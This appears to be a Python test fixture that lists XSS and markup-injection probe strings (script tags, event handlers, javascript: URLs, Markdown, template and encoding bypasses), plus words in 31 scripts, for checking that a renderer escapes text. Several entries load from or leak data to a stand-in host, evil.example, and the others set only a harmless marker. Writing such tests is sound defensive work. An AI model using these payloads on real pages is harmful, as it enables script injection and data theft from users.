"""Texts that would run, load or navigate if a page took them for markup, and texts of many scripts."""

from typing import Final

_BREAK: Final = "window.broken=1"
MARKUP: Final = (
    f"<script>{_BREAK}</script>",
    f"<img src=x onerror={_BREAK}>",
    f"<svg onload={_BREAK}>",
    f"<svg><script>{_BREAK}</script></svg>",
    f"<svg><animate onbegin={_BREAK} attributeName=x dur=1s>",
    f"<body onload={_BREAK}>",
    f"<iframe src='javascript:{_BREAK}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_BREAK}</script>'></iframe>",
    f"<a href='javascript:{_BREAK}'>x</a>",
    f"<details open ontoggle={_BREAK}>",
    f"<video><source onerror={_BREAK}></video>",
    f"<input autofocus onfocus={_BREAK}>",
    f"<select autofocus onfocus={_BREAK}>",
    f"<marquee onstart={_BREAK}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_BREAK}>",
    f"<noscript><p title='</noscript><img src=x onerror={_BREAK}>'>",
    f"<template><img src=x onerror={_BREAK}></template>",
    f"<object data='javascript:{_BREAK}'></object>",
    f"<form action='javascript:{_BREAK}'><button autofocus>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<img src='https://evil.example/?leak=secret'>",
    f"\"><script>{_BREAK}</script>",
    f"'-alert(1)-' onmouseover={_BREAK} x='",
    f"</textarea></title></style><script>{_BREAK}</script>",
    f"[x](javascript:{_BREAK})",
    f"![x\" onerror=\"{_BREAK}](x)",
    "![secret](https://evil.example/?leak=secret)",
    f"[x](https://e.example \"\\\"onmouseover={_BREAK} x=\")",
    f"```\"><img src=x onerror={_BREAK}>\n1\n```",
    f"| a |\n|---|\n| <img src=x onerror={_BREAK}> |",
    f"$$\\href{{javascript:{_BREAK}}}{{x}}$$ $\\url{{javascript:{_BREAK}}}$",
    f"${{{_BREAK}}} {{{{{_BREAK}}}}} <%= {_BREAK} %>",
    f"&lt;script&gt;{_BREAK}&lt;/script&gt;",
    f"\u003cscript\u003e{_BREAK}\u003c/script\u003e",
    f"<scr\u200bipt>{_BREAK}</script> ＜script＞{_BREAK}＜/script＞",
    f"data:text/html,<script>{_BREAK}</script>",
)  # fmt: skip
"""Markup, Markdown, formulas and templates."""
SCRIPTS: Final = (
    *("简体中文", "繁體中文", "ひらがな カタカナ 漢字", "한국어", "Tiếng Việt", "ไทย", "ລາວ", "ខ្មែរ", "မြန်မာ", "བོད་ཡིག"),
    *("हिन्दी", "বাংলা", "ਪੰਜਾਬੀ", "ગુજરાતી", "ଓଡ଼ିଆ", "தமிழ்", "తెలుగు", "ಕನ್ನಡ", "മലയാളം", "සිංහල"),
    *("العربية", "فارسی‌ها", "עברית", "Русский", "Ελληνικά", "Հայերեն", "ქართული", "አማርኛ", "ᠮᠣᠩᠭᠣᠯ", "ئۇيغۇرچە", "👩‍👩‍👧‍👦 é é 𠀀"),
)
"""A word of each of 31 scripts; the last has parts of several code points."""
